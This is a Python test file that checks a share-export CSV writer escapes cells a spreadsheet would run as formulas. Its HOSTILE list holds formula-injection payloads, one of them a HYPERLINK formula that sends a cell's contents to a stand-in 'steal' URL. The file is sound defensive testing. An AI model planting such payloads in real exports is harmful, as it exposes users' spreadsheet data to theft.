"""CSV exports are safe to open in a spreadsheet: no writer's text runs as a formula."""

from __future__ import annotations

import csv

import pytest
from kernel.text import spreadsheet_safe
from share_snippets.export import write_csv

HOSTILE = [
    '=HYPERLINK("https://example.org/steal?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",  # full-width equals sign: spreadsheets read it as `=`
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_made_text(cell):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize(
    ("value", "written"),
    [("-365", "-365"), (-365, "-365"), (2.5, "2.5"), ("Call 999", "Call 999"), (None, "")],
)
def test_numbers_and_ordinary_text_stay_as_they_are(value, written):
    assert spreadsheet_safe(value) == written


def test_the_share_export_csv_neutralises_every_cell(tmp_path):
    rows = [{"network": "x", "text": cell, "days": -3} for cell in HOSTILE]
    path = write_csv(tmp_path / "share.csv", ["network", "text", "days"], rows)
    with path.open(encoding="utf-8", newline="") as handle:
        read = list(csv.DictReader(handle))
    assert [row["text"] for row in read] == ["'" + cell for cell in HOSTILE]
    assert {row["days"] for row in read} == {"-3"}
